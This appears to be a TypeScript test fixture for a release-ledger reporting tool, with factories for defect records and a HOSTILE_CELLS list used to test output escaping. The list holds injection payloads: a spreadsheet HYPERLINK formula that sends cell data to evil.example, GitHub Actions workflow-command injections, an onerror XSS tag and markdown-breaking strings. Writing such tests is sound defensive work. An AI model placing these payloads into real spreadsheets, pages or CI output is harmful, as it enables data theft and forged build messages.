import type { Defect, Severity } from '../../src/findings/defect.js'

// Defect factories for report tests: the shape the ledger and closure stages hand to reports.

export function defect(over: Partial<Defect> = {}): Defect {
  return {
    subject: 'alm-1',
    defect_code: 'ACK_MISSING',
    severity: 'blocking',
    owner_role: 'release-eng',
    required_action: 'Acknowledge in the ledger',
    release_window_id: 'rw-1',
    file: 'examples/ack-ledger.csv',
    line: 2,
    field: 'ack_timestamp_utc',
    detail: 'no ledger row',
    ...over
  }
}

/** n defects of one severity, numbered from `start`, each on its own line. */
export function many(n: number, severity: Severity, start = 0, code = severity === 'blocking' ? 'ACK_MISSING' : severity === 'warning' ? 'LEDGER_ORPHAN' : 'INFO_NOTE'): Defect[] {
  return Array.from({ length: n }, (_, k) => {
    const i = start + k
    return defect({ subject: `alm-${String(i).padStart(5, '0')}`, severity, defect_code: code, line: i + 2, detail: `defect number ${i}` })
  })
}

/** Cells an attacker controls in a CSV: each tries to break a different output grammar. */
export const HOSTILE_CELLS = [
  '=HYPERLINK("https://evil.example/steal?x="&A1,"click")',
  '::error::pwned',
  'line1\n::warning file=x.csv,line=1::injected',
  'percent %0A newline and %25 literal',
  '<img src=x onerror=alert(1)>',
  '| pipe | breaks | tables',
  '`code` and [link](https://evil.example) ![img](https://evil.example/x.png)',
  'carriage\rreturn',
  '**bold** _em_ ~~strike~~ # heading'
] as const
